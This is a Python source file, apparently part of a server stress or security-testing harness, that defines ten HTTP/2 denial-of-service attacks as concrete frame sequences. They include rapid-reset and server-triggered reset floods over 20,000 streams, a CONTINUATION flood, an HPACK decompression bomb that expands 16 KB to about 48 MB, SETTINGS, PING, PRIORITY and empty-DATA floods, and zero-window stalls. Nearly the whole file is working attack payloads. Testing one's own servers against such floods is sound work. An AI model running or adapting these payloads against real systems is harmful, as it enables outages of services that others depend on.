# SPDX-License-Identifier: Apache-2.0
"""Frames of HTTP/2 that cost the server more than the one who sends them."""

from h2frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                      PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, setting)
from hostile import TLS13, Attack

_CANCEL = b"\0\0\0\x08"
_STREAMS = 20_000  # on one connection, where each needs a number of its own

# Of HPACK's static table: GET, https, /; and the path that is worth asking for.
_GET = b"\x82\x87" + field(b":path", b"/metrics") + field(b":authority", b"localhost")

# A value of 4,000 bytes goes into the table, then comes out of it 12,000 times.
_BOMB = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12_000


def _preface(*settings):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=b"".join(settings))


def _streams(count, *frames):
    """On each stream the same frames, given as functions of its number."""
    return b"".join(make(2 * n + 1) for n in range(count) for make in frames)


def _request(stream):
    return frame(HEADERS, stream, _GET, END_STREAM | END_HEADERS)


def _open_request(stream):
    return frame(HEADERS, stream, _GET, END_HEADERS)


def _flood(name, does, again=b"", first=b"", connections=20, **more):
    plan = {"priority": TLS13, "alpn": "h2", "first": _preface() + first}
    if again:
        plan["again"] = again
    return Attack(name, does, "open", connections, plan, **{
        "proof": ("handshakes", "cut"), "cut_after_s": 0, **more})


def _zero_window(name, **more):
    return Attack(name, "ask for 99 scrapes on each connection, and open no window for them",
                  plan={"priority": TLS13, "alpn": "h2",
                        "first": _preface(setting(INITIAL_WINDOW_SIZE, 0)) +
                        _streams(99, _request)},
                  connections=20, proof=("handshakes", "sent"), **more)


ATTACKS = [
    _flood("rapid reset", "ask for a scrape and cancel it, stream after stream", first=_streams(
        _STREAMS, _request, lambda n: frame(RST_STREAM, n, _CANCEL))),
    _flood("resets that the server makes", "ask, then break the stream, so that the server "
           "cancels it", first=_streams(_STREAMS, _open_request, lambda n: frame(
               WINDOW_UPDATE, n, b"\0\0\0\0"))),
    _flood("CONTINUATION", "send a field block that never ends", frame(CONTINUATION, 1) * 1000,
           frame(HEADERS, 1, _GET)),
    _flood("HPACK bomb", "send 16 KB of fields that unpack to 48 MB",
           first=frame(HEADERS, 1, _GET + _BOMB, END_HEADERS | END_STREAM)),
    _flood("SETTINGS", "change settings without end", frame(SETTINGS) * 1000),
    _flood("PING", "ask for a sign of life without end", frame(PING, payload=b"--------") * 1000),
    _flood("PRIORITY", "reorder streams without end",
           frame(PRIORITY, 1, b"\0\0\0\0\x0f") * 1000),
    _flood("empty DATA", "send a body of nothing without end", frame(DATA, 1) * 1000,
           _open_request(1)),
    _zero_window("zero window", door="open"),
    _zero_window("zero window, let in", door="mtls", insider=True),
]
